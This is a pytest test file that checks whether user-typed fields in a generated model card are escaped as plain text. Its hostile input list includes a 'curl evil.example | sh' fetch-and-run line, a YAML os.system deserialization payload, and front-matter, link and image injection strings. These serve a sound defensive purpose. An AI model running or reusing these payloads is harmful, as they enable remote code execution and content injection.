"""What people typed stands in the model card as text: no heading, link, tag, table row or second front matter."""

from __future__ import annotations

import re

import pytest
import yaml

from tests.hostile.values import LINES, TEMPLATES, XSS
from worker.export.card import model_card
from worker.trainer.specs import PushSpec

_EVIL = [
    *XSS,
    *LINES,
    *TEMPLATES,
    "x\n---\nlicense: mit\nbase_model: evil/evil\n---\n# Owned",
    "x\n\n# Heading\n\n[click](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "a | b |\n|---|---|\n| c | d",
    "`` ` ```\n```sh\ncurl evil.example | sh\n```",
    "<!-- x",
    "https://evil.example",
    "yes: [a, !!python/object/apply:os.system ['true']]",
]


@pytest.mark.parametrize("evil", _EVIL)
def test_it_stays_text(evil: str) -> None:
    card: dict[str, str | int | float | list[str]] = {
        "name": evil,
        "base_model": evil,
        "dataset": evil,
        "licence": evil,
        "questions": [evil],
        "score_eval_loss": evil,
        "learning_rate": evil,
    }
    text = model_card(PushSpec(repo_id="ada/tune", files=(), card=card), "ada/tune", [])
    front, body = re.fullmatch(r"---\n(.*?)\n---\n(.*)", text, re.DOTALL).groups()  # type: ignore[union-attr]
    assert set(yaml.safe_load(front)) <= {"base_model", "license", "pipeline_tag", "tags", "library_name"}
    plain = re.sub(r"`[^`\n]*`", "", body)
    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(|(?<!\\)!\[", plain)
    assert len(re.findall(r"^#", body, re.MULTILINE)) == 5
    assert "```" not in body.replace("\\`", "")
    assert not re.search(r"^(---|===)", body, re.MULTILINE)
    tables = [line for line in body.splitlines() if line.startswith("|")]
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 3 for line in tables)
